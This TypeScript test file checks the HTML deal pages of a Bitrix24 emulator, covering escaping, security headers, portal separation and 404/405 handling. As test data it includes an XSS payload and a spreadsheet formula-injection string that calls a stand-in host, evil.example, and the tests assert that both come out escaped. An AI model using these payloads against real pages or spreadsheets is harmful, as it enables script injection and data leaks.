import { startBitrix24Emulator, type Bitrix24Emulator } from './bitrix24-emulator';

const SCRIPT = '<script>alert(1)</script>';
const FORMULA = '=IMPORTXML("http://evil.example","//a")';

let b24: Bitrix24Emulator;

async function rest(method: string, params: object, base = `${b24.url}/rest/1/hook1/`) {
  const res = await fetch(`${base}${method}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(params),
  });
  expect(res.status).toBe(200);
  return ((await res.json()) as { result: unknown }).result;
}

async function page(path: string, accept = 'text/html') {
  const res = await fetch(`${b24.url}${path}`, { headers: { accept } });
  return { status: res.status, headers: res.headers, text: await res.text() };
}

beforeAll(async () => {
  b24 = await startBitrix24Emulator({
    portals: [
      {
        name: 'acme',
        userFields: [{ fieldName: 'PAYMENT_ID' }],
        categories: [{ id: 1, name: 'Online payments' }],
        webhooks: [{ userId: 1, code: 'hook1' }],
      },
      { name: 'beta', webhooks: [{ userId: 1, code: 'hook1' }] },
    ],
  });
});

afterAll(async () => {
  await b24.close();
});

beforeEach(() => {
  b24.reset();
});

describe('deal pages', () => {
  it('lists a deal made over REST with pipeline, stage, amount, ORIGIN_ID and comments, escaped', async () => {
    const id = await rest('crm.deal.add', {
      fields: {
        TITLE: `Order ${SCRIPT}`,
        CATEGORY_ID: 1,
        STAGE_ID: 'C1:WON',
        OPPORTUNITY: 1500,
        CURRENCY_ID: 'AMD',
        ORIGIN_ID: 'vpos:"ps_1"&<b>',
        UF_CRM_PAYMENT_ID: 'pay-77',
      },
    });
    await rest('crm.timeline.comment.add', {
      fields: { ENTITY_TYPE: 'deal', ENTITY_ID: id, COMMENT: `Paid ${SCRIPT} ${FORMULA}` },
    });

    const list = await page('/_emulator/ui/portals/acme');
    expect(list.status).toBe(200);
    expect(list.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(list.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(list.text).toContain('SANDBOX');
    expect(list.text).toContain(`href="/_emulator/ui/portals/acme/deals/${String(id)}"`);
    expect(list.text).toContain('Order &#60;script&#62;alert(1)&#60;/script&#62;');
    expect(list.text).toContain('Online payments (1)');
    expect(list.text).toContain('Deal successful');
    expect(list.text).toContain('C1:WON');
    expect(list.text).toContain('1500.00 AMD');
    expect(list.text).toContain('vpos:&#34;ps_1&#34;&#38;&#60;b&#62;');
    expect(list.text).toContain('pay-77');
    expect(list.text).toContain('Paid &#60;script&#62;');
    expect(list.text).toContain('=IMPORTXML(&#34;http://evil.example&#34;,&#34;//a&#34;)');
    expect(list.text).not.toContain('<script>');
    expect(list.text).not.toContain('<b>');

    const detail = await page(`/_emulator/ui/portals/acme/deals/${String(id)}`);
    expect(detail.status).toBe(200);
    expect(detail.text).toContain('STAGE_SEMANTIC_ID');
    expect(detail.text).toContain('Paid &#60;script&#62;');
    expect(detail.text).not.toContain('<script>');
  });

  it('shows each portal on its own page and an index of portals', async () => {
    await rest(
      'crm.deal.add',
      { fields: { TITLE: 'Beta deal' } },
      `${b24.url}/p/beta/rest/1/hook1/`,
    );
    const acme = await page('/_emulator/ui/portals/acme');
    expect(acme.text).toContain('No deals yet.');
    expect(acme.text).not.toContain('Beta deal');
    const beta = await page('/_emulator/ui/portals/beta');
    expect(beta.text).toContain('Beta deal');
    expect(beta.text).toContain('New');
    const index = await page('/_emulator/ui');
    expect(index.text).toContain('href="/_emulator/ui/portals/acme"');
    expect(index.text).toContain('href="/_emulator/ui/portals/beta"');
  });

  it('answers 404 pages for an unknown portal or deal and 405 for writes', async () => {
    expect((await page('/_emulator/ui/portals/nope')).status).toBe(404);
    expect((await page('/_emulator/ui/portals/acme/deals/99')).status).toBe(404);
    const post = await fetch(`${b24.url}/_emulator/ui/portals/acme`, { method: 'POST' });
    expect(post.status).toBe(405);
  });

  it('links the pages from a portal root for browsers and keeps its JSON for API clients', async () => {
    const browser = await page('/', 'text/html,application/xhtml+xml');
    expect(browser.status).toBe(200);
    expect(browser.text).toContain('href="/_emulator/ui/portals/acme"');
    const beta = await page('/p/beta/', 'text/html');
    expect(beta.text).toContain('href="/_emulator/ui/portals/beta"');
    const api = await page('/', '*/*');
    expect(api.headers.get('content-type')).toContain('application/json');
    expect(JSON.parse(api.text)).toMatchObject({ emulator: 'bitrix24', portal: { name: 'acme' } });
  });

  it('is not counted as REST traffic', async () => {
    await page('/_emulator/ui/portals/acme');
    await page('/');
    expect(b24.counters({ portal: 'acme' }).requests).toBe(0);
  });

  it('a deal link as Bitrix24 spells it opens that deal, on the root portal and a /p/ one', async () => {
    const deal = b24.createDeal(
      { TITLE: 'Sofa', OPPORTUNITY: 12500, CURRENCY_ID: 'AMD' },
      {
        portal: 'beta',
      },
    );
    const other = b24.createDeal({ TITLE: 'Chair' }, { portal: 'acme' });
    const beta = await page(`/p/beta/crm/deal/details/${String(deal.ID)}/`);
    expect(beta.status).toBe(200);
    expect(beta.text).toContain(`Deal ${String(deal.ID)}: Sofa`);
    const root = await page(`/crm/deal/details/${String(other.ID)}/`);
    expect([root.status, root.text]).toEqual([200, expect.stringContaining('Chair')]);
    expect((await page('/p/beta/crm/deal/details/999999/')).status).toBe(404);
  });
});
